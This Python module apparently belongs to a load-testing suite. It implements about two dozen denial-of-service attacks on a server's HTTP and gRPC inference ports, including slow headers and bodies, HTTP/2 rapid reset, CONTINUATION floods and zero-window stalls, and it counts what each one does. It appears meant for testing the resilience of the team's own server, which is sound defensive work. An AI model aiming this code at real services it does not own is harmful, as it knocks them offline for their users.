"""What clients from hell do: each attack goes on until it is cancelled, and counts what it did.

None of them needs more than one process, which is what makes them dangerous: the server has to do much, or keep much,
for little of theirs. Connections that the server closes are made again.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import random
import socket
import struct
from collections.abc import AsyncIterator, Awaitable, Callable, Coroutine, Iterator
from dataclasses import dataclass, field
from typing import Any

from loadtests.hell import frames

SERVICE = "/inference.GRPCInferenceService"
INFER = f"{SERVICE}/ModelInfer"
LIVE = f"{SERVICE}/ServerLive"
# What a TLS client says first: a handshake record, version 1.0, with a hello of version 1.2.
TLS_HELLO = bytes.fromhex("16030100c8010000c40303") + bytes(32) + b"\0" + bytes(160)
_RESET = struct.pack("ii", 1, 0)
_PAUSE = 0.05  # before a closed connection is made again


@dataclass(slots=True)
class Victim:
    """Where the server listens, and requests it would answer."""

    http: int
    grpc: int
    ask: bytes = b""  # a whole HTTP request for a small answer
    greedy: bytes = b""  # one for an answer of a megabyte
    message: bytes = b""  # a gRPC message for a small answer
    host: str = "127.0.0.1"
    random: random.Random = field(default_factory=lambda: random.Random(1))
    counts: dict[str, int] = field(default_factory=dict)

    def count(self, what: str, number: int = 1) -> None:
        self.counts[what] = self.counts.get(what, 0) + number


class Line:
    """A plain connection that is used without politeness."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader = reader
        self.writer = writer

    async def send(self, data: bytes) -> None:
        self.writer.write(data)
        await self.writer.drain()

    async def swallow(self) -> None:
        """Read whatever comes, until the server closes."""
        while await self.reader.read(1 << 16):
            pass

    @contextlib.asynccontextmanager
    async def read(self) -> AsyncIterator[None]:
        """Swallow while the block lasts."""
        task = asyncio.create_task(self.swallow())
        try:
            yield
        finally:
            task.cancel()
            await asyncio.wait([task])
            if not task.cancelled():
                task.exception()  # that the server closed shows in the sending as well

    def deaf(self) -> None:
        """Never read anything more."""
        self.writer.transport.pause_reading()  # type: ignore[attr-defined]

    def vanish(self) -> None:
        """Close with a reset, as a crashed client does."""
        raw = self.writer.get_extra_info("socket")
        with contextlib.suppress(OSError):
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, _RESET)
        self.writer.transport.abort()


Work = Callable[[Victim, Line], Awaitable[None]]
Run = Callable[[Victim], Coroutine[Any, Any, None]]


def _many(port: str, count: int, work: Work) -> Run:
    """`count` connections to one of the ports that each do `work`, again and again."""

    async def one(victim: Victim) -> None:
        while True:
            with contextlib.suppress(OSError, asyncio.IncompleteReadError):
                line = Line(*await asyncio.open_connection(victim.host, getattr(victim, port)))
                victim.count("connections")
                try:
                    await work(victim, line)
                finally:
                    line.vanish()
            await asyncio.sleep(_PAUSE)

    async def run(victim: Victim) -> None:
        async with asyncio.TaskGroup() as group:
            for number in range(count):
                group.create_task(one(victim))
                if number % 100 == 99:
                    await asyncio.sleep(0.01)

    return run


# HTTP


async def _silent(victim: Victim, line: Line) -> None:
    await line.swallow()


async def _idle_after_one(victim: Victim, line: Line) -> None:
    await line.send(victim.ask)
    await line.swallow()


async def _slow_headers(victim: Victim, line: Line) -> None:
    await line.send(b"POST /v2/models/identity/infer HTTP/1.1\r\n")
    for number in itertools.count():
        await line.send(b"x-%d: y\r\n" % number)
        victim.count("lines")
        await asyncio.sleep(1)


async def _slow_bodies(victim: Victim, line: Line) -> None:
    await line.send(b"POST /v2/models/identity/infer HTTP/1.1\r\nContent-Length: 60000000\r\n\r\n")
    await line.send(b"x" * 1_000_000)
    while True:
        await line.send(b"x")
        victim.count("bytes")
        await asyncio.sleep(1)


async def _unread_answers(victim: Victim, line: Line) -> None:
    line.deaf()
    while True:
        await line.send(victim.greedy)
        victim.count("requests")
        await asyncio.sleep(1)


async def _pipelines(victim: Victim, line: Line) -> None:
    async with line.read():
        while True:
            await line.send(b"GET /v2/health/live HTTP/1.1\r\n\r\n" * 50 + victim.ask * 50)
            victim.count("requests", 100)


async def _giant_headers(victim: Victim, line: Line) -> None:
    await line.send(b"GET /v2/health/live HTTP/1.1\r\n")
    for _ in range(100):
        await line.send(b"x: " + b"y" * 10_000 + b"\r\n")
        victim.count("headers")


async def _many_headers(victim: Victim, line: Line) -> None:
    await line.send(b"GET /v2/health/live HTTP/1.1\r\n" + b"x: y\r\n" * 9_000 + b"\r\n")
    victim.count("headers", 9_000)
    await line.reader.read(1 << 16)


async def _garbage(victim: Victim, line: Line) -> None:
    await line.send(victim.random.choice([TLS_HELLO, victim.random.randbytes(2000), b"\0" * 2000, frames.PREFACE]))
    victim.count("pieces")
    await line.reader.read(1 << 16)


async def _churn(victim: Victim, line: Line) -> None:
    await line.send(b"" if victim.random.random() < 0.5 else victim.ask[: victim.random.randrange(len(victim.ask))])


async def _http_cancels(victim: Victim, line: Line) -> None:
    """Nine requests in ten are given up at a random moment, by a reset or a good close."""
    for _ in range(20):
        await line.send(victim.ask)
        victim.count("requests")
        if victim.random.random() < 0.1:
            await line.reader.readuntil(b"\r\n\r\n")
            continue
        await asyncio.sleep(victim.random.random() * 0.02)
        victim.count("cancels")
        if victim.random.random() < 0.5:
            line.writer.close()
        return


# gRPC


async def _polite(victim: Victim, line: Line) -> None:
    await line.send(frames.PREFACE + frames.settings())
    await line.swallow()


async def _grpc_half(victim: Victim, line: Line) -> None:
    await line.send(frames.PREFACE[:10])
    await line.swallow()


async def _rapid_reset(victim: Victim, line: Line) -> None:
    """Streams that are reset as soon as they are open, by the hundred in each packet."""
    opened = frames.block(INFER)
    await line.send(frames.PREFACE + frames.settings())
    async with line.read():
        for first in range(1, 1 << 30, 200):
            pairs = (frames.headers(stream, opened) + frames.reset(stream) for stream in range(first, first + 200, 2))
            await line.send(b"".join(pairs))
            victim.count("streams", 100)
            await asyncio.sleep(0)


async def _rapid_requests(victim: Victim, line: Line) -> None:
    """Whole requests that are reset at once: each has reached the application before it is taken back."""
    opened = frames.block(INFER)
    await line.send(frames.PREFACE + frames.settings() + frames.more_window(0, 1 << 30))
    async with line.read():
        for first in range(1, 1 << 30, 40):
            for stream in range(first, first + 40, 2):
                asked = frames.headers(stream, opened) + frames.message(stream, victim.message)
                await line.send(asked + frames.reset(stream))
            victim.count("streams", 20)
            await asyncio.sleep(0)


def _flood(pieces: Callable[[], Iterator[bytes]], deaf: bool = False) -> Work:
    """Frames without end that cost the sender nothing."""

    async def work(victim: Victim, line: Line) -> None:
        await line.send(frames.PREFACE + frames.settings())
        async with contextlib.nullcontext() if deaf else line.read():
            if deaf:
                line.deaf()
            for piece in pieces():
                await line.send(piece)
                victim.count("kilobytes", len(piece) >> 10)
                await asyncio.sleep(0)

    return work


def _pings() -> Iterator[bytes]:
    for number in itertools.count():
        yield frames.ping(number) * 1000


def _settings() -> Iterator[bytes]:
    return itertools.repeat(frames.settings(initial_window_size=65535) * 1000)


def _continuations() -> Iterator[bytes]:
    yield frames.headers(1, frames.block(INFER), flags=0)
    yield from itertools.repeat(frames.frame(frames.CONTINUATION, 0, 1, frames.header(b"x", b"y" * 8000)))


def _empty_continuations() -> Iterator[bytes]:
    yield frames.headers(1, frames.block(INFER), flags=0)
    yield from itertools.repeat(frames.frame(frames.CONTINUATION, 0, 1) * 1000)


async def _open_streams(victim: Victim, line: Line) -> None:
    """As many streams as the server lets be open, each of which never says anything."""
    opened = frames.block(INFER)
    await line.send(frames.PREFACE + frames.settings())
    async with line.read():
        for stream in range(1, 20_000, 2):
            await line.send(frames.headers(stream, opened))
            victim.count("streams")
        await asyncio.sleep(3600)


async def _zero_window(victim: Victim, line: Line) -> None:
    """Whole requests whose answers the server may not send."""
    opened = frames.block(INFER)
    await line.send(frames.PREFACE + frames.settings(initial_window_size=0))
    async with line.read():
        for stream in range(1, 20_000, 2):
            await line.send(frames.headers(stream, opened) + frames.message(stream, victim.message))
            victim.count("requests")
            await asyncio.sleep(0.1)
        await asyncio.sleep(3600)


async def _giant_metadata(victim: Victim, line: Line) -> None:
    """Far over the limit, in a valid header block."""
    await line.send(frames.PREFACE + frames.settings())
    async with line.read():
        for stream in range(1, 2000, 2):
            await line.send(frames.headers(stream, frames.block(LIVE), frames.END_STREAM))
            for last in (0, 0, 0, 0, 0, 0, 0, frames.END_HEADERS):
                await line.send(frames.frame(frames.CONTINUATION, last, stream, frames.header(b"x", b"y" * 16_000)))
            victim.count("headers")


async def _grpc_cancels(victim: Victim, line: Line) -> None:
    """Nine calls in ten are reset at a random moment; the connection stays."""
    opened = frames.block(INFER)
    await line.send(frames.PREFACE + frames.settings() + frames.more_window(0, 1 << 30))
    async with line.read():
        for stream in range(1, 1 << 30, 2):
            await line.send(frames.headers(stream, opened) + frames.message(stream, victim.message))
            victim.count("requests")
            await asyncio.sleep(victim.random.random() * 0.02)
            if victim.random.random() < 0.9:
                await line.send(frames.reset(stream))
                victim.count("cancels")
            await asyncio.sleep(0.1)


async def _grpc_churn(victim: Victim, line: Line) -> None:
    await line.send(b"" if victim.random.random() < 0.5 else frames.PREFACE + frames.settings())


@dataclass(frozen=True, slots=True)
class Attack:
    """An attack and what it is, in words for a table."""

    name: str
    port: str
    what: str
    run: Run


def _attack(name: str, port: str, count: int, work: Work, what: str) -> Attack:
    return Attack(name, port, what.format(count=count), _many(port, count, work))


ATTACKS = {
    f"{attack.port}-{attack.name}": attack
    for attack in (
        _attack("idle", "http", 2000, _silent, "{count} connections that never say anything"),
        _attack("idle-kept", "http", 2000, _idle_after_one, "{count} connections idle after one request"),
        _attack("slow-headers", "http", 500, _slow_headers, "{count} clients sending a header line a second"),
        _attack("slow-bodies", "http", 200, _slow_bodies, "{count} clients sending a byte of body a second"),
        _attack("unread", "http", 100, _unread_answers, "{count} clients asking for megabytes they never read"),
        _attack("pipelines", "http", 4, _pipelines, "{count} clients pipelining a hundred requests at a time"),
        _attack("giant-headers", "http", 8, _giant_headers, "{count} clients sending a megabyte of headers"),
        _attack("many-headers", "http", 4, _many_headers, "{count} clients sending 9000 headers in 54 KB"),
        _attack("garbage", "http", 16, _garbage, "{count} clients sending TLS, noise, zeros and HTTP/2"),
        _attack("churn", "http", 16, _churn, "{count} clients connecting, sending half a request, leaving"),
        _attack("cancels", "http", 32, _http_cancels, "{count} clients giving up nine requests in ten"),
        _attack("idle", "grpc", 2000, _polite, "{count} connections without a call"),
        _attack("half-preface", "grpc", 500, _grpc_half, "{count} connections that stop in the preface"),
        _attack("garbage", "grpc", 16, _garbage, "{count} clients sending TLS, noise, zeros and prefaces"),
        _attack("churn", "grpc", 16, _grpc_churn, "{count} clients connecting and leaving"),
        _attack("rapid-reset", "grpc", 2, _rapid_reset, "{count} clients resetting streams as they open them"),
        _attack("rapid-requests", "grpc", 2, _rapid_requests, "{count} clients resetting requests as they send them"),
        _attack("pings", "grpc", 2, _flood(_pings), "{count} clients sending PINGs without end"),
        _attack("deaf-pings", "grpc", 2, _flood(_pings, deaf=True), "{count} clients that do not read the answers"),
        _attack("settings", "grpc", 2, _flood(_settings), "{count} clients sending SETTINGS without end"),
        _attack("continuations", "grpc", 2, _flood(_continuations), "{count} clients whose headers never end"),
        _attack(
            "empty-continuations",
            "grpc",
            2,
            _flood(_empty_continuations),
            "{count} clients with empty CONTINUATIONs",
        ),
        _attack("open-streams", "grpc", 8, _open_streams, "{count} clients opening 10 000 silent streams"),
        _attack("zero-window", "grpc", 8, _zero_window, "{count} clients whose window stays shut"),
        _attack("giant-metadata", "grpc", 4, _giant_metadata, "{count} clients sending 128 KB of metadata a call"),
        _attack("cancels", "grpc", 32, _grpc_cancels, "{count} clients resetting nine calls in ten"),
    )
}
